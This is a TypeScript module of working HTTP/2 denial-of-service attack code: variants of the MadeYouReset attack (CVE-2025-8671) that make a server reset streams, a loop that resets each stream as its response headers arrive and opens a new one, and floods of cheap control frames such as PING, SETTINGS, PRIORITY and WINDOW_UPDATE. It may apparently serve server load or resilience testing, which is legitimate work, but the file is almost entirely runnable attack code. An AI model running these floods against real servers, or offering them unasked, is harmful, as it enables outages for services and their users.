// More HTTP/2 attackers at the frame level, over h2-floods.ts's connection loop:
// - madeYouReset() (CVE-2025-8671): a request, then at once a frame that is a stream error, so
//   that the SERVER resets the stream — a reset that counters of client RST_STREAMs never see:
//   'window-update' (WINDOW_UPDATE of 0 on the half-closed stream: PROTOCOL_ERROR),
//   'data-closed' (DATA after the request ended it: STREAM_CLOSED),
//   'content-length' (a POST saying content-length: 1 whose DATA carries 2 bytes: PROTOCOL_ERROR);
// - resetAfterResponse(): a client with every stream it may open (the server's limit) in flight,
//   resetting each once its response head arrives and opening the next at once;
// - cheapFlood(): frames that cost the server work but open nothing: 'ping', 'settings',
//   'priority' (on idle streams), 'empty-data' (zero-length DATA on one open stream),
//   'window-update' (increments of 1 to the connection's window), 'window-update-stream' (the same
//   to one open stream's).
import { flood, frame, literal, type FloodOptions, type FloodResult } from './h2-floods.js';

export type MadeYouResetKind = 'window-update' | 'data-closed' | 'content-length';
export type CheapFloodKind = 'ping' | 'settings' | 'priority' | 'empty-data' | 'window-update' | 'window-update-stream';

const u32 = (n: number) => { const b = Buffer.alloc(4); b.writeUInt32BE(n); return b; };
const CANCEL = u32(0x8);
// :method GET (2), :scheme https (7), :path, :authority.
const getBlock = (path: string, authority: string) => Buffer.concat([Buffer.from([0x82, 0x87]), literal(4, path), literal(1, authority)]);

/** `path` requested, then a stream error for the server to answer with RST_STREAM; 100 streams a write. */
export function madeYouReset(o: FloodOptions & { path: string; kind: MadeYouResetKind }): Promise<FloodResult> {
  const get = getBlock(o.path, o.authority);
  // :method POST (3), :scheme https (7), :path, :authority, content-length (28): 1.
  const post = Buffer.concat([Buffer.from([0x83, 0x87]), literal(4, o.path), literal(1, o.authority), literal(28, '1')]);
  let id = 1;
  const pair = (s: number): Buffer[] => {
    switch (o.kind) {
      case 'window-update': return [frame(0x1, 0x5, s, get), frame(0x8, 0, s, u32(0))];
      case 'data-closed': return [frame(0x1, 0x5, s, get), frame(0x0, 0x1, s, Buffer.from('x'))];
      case 'content-length': return [frame(0x1, 0x4, s, post), frame(0x0, 0x1, s, Buffer.from('xx'))];
    }
  };
  return flood(o, Buffer.alloc(0), () => {
    const frames: Buffer[] = [];
    for (let i = 0; i < 100; i++, id += 2) frames.push(...pair(id));
    return { frames: Buffer.concat(frames), count: 100 };
  });
}

/**
 * `concurrent` streams of GET `path` in flight; each reset (CANCEL) as its response HEADERS arrive,
 * and a new one opened. `sent`: streams opened.
 */
export async function resetAfterResponse(o: FloodOptions & { path: string; concurrent: number }): Promise<FloodResult> {
  const get = getBlock(o.path, o.authority);
  let id = 1;
  let opened = 0;
  const open = (): Buffer => { opened++; const f = frame(0x1, 0x5, id, get); id += 2; return f; };
  const first: Buffer[] = [frame(0x8, 0, 0, u32(0x3fff_ffff))]; // room for every response's DATA
  for (let i = 0; i < o.concurrent; i++) first.push(open());
  const r = await flood(o, Buffer.concat(first), () => ({ frames: Buffer.alloc(0), count: 0 }), (type, _flags, stream, _p, write) => {
    if (type !== 0x1 || stream === 0) return;
    write(Buffer.concat([frame(0x3, 0, stream, CANCEL), open()]));
  });
  return { ...r, sent: opened };
}

/** Cheap frames, 200 a write; 'empty-data' and 'window-update-stream' after one POST stream opened for them. */
export function cheapFlood(o: FloodOptions & { kind: CheapFloodKind }): Promise<FloodResult> {
  const post = Buffer.concat([Buffer.from([0x83, 0x87]), literal(4, '/upload'), literal(1, o.authority)]);
  const start = o.kind === 'empty-data' || o.kind === 'window-update-stream' ? frame(0x1, 0x4, 1, post) : Buffer.alloc(0);
  let n = 0;
  const one = (): Buffer => {
    n++;
    switch (o.kind) {
      case 'ping': { const p = Buffer.alloc(8); p.writeUInt32BE(n); return frame(0x6, 0, 0, p); }
      case 'settings': return frame(0x4, 0, 0, Buffer.alloc(0));
      // Stream n*2+1 (idle, never opened) depends on stream 0, weight 16.
      case 'priority': return frame(0x2, 0, (2 * n + 1) & 0x7fffffff, Buffer.from([0, 0, 0, 0, 15]));
      case 'empty-data': return frame(0x0, 0, 1, Buffer.alloc(0));
      case 'window-update': return frame(0x8, 0, 0, u32(1));
      case 'window-update-stream': return frame(0x8, 0, 1, u32(1));
    }
  };
  return flood(o, start, () => {
    const frames: Buffer[] = [];
    for (let i = 0; i < 200; i++) frames.push(one());
    return { frames: Buffer.concat(frames), count: 200 };
  });
}
